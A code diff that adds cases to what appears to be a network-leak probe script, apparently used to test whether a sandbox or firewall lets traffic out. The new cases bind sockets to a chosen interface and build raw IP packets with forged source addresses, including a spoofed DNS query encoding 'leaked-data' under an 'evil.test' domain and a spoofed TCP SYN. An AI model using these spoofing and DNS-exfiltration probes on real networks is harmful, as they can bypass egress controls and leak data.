@@ -34,6 +34,27 @@ try:
     elif kind == "udp-connected":
         s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
         s.connect((host, port)); s.send(b"leak"); print("got", s.recv(9))
+    elif kind == "bound":  # by an interface where the address is not
+        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, sys.argv[4].encode())
+        s.sendto(b"leak", (host, port)); print("got", s.recv(9))
+    elif kind in ("forged-udp", "forged-syn"):  # from EVIL: the answer would leak
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        evil = socket.inet_aton(sys.argv[4])
+        if kind == "forged-udp":
+            name = b"\\x0bleaked-data\\x04evil\\x04test\\0"
+            data = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1"
+            body = struct.pack("!HHHH", 5555, port, 8 + len(data), 0) + data
+        else:
+            body = struct.pack("!HHIIBBHHH", 5555, port, 7, 0, 0x50, 2, 1000, 0, 0)
+            pseudo = evil + socket.inet_aton(host) + struct.pack("!HH", 6, 20)
+            words = struct.unpack("!16H", pseudo + body)
+            n = sum(words); n = (n & 65535) + (n >> 16); n = (n & 65535) + (n >> 16)
+            body = body[:16] + struct.pack("!H", n ^ 65535) + body[18:]
+        l4 = 17 if kind == "forged-udp" else 6
+        s.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, l4,
+                             0, evil, socket.inet_aton(host)) + body, (host, 0))
+        print("sent")
     elif kind == "raw":  # @port: a protocol
         s = socket.socket(family, socket.SOCK_RAW, port); s.settimeout(1)
         s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0leak", (host, 0)); print("sent")
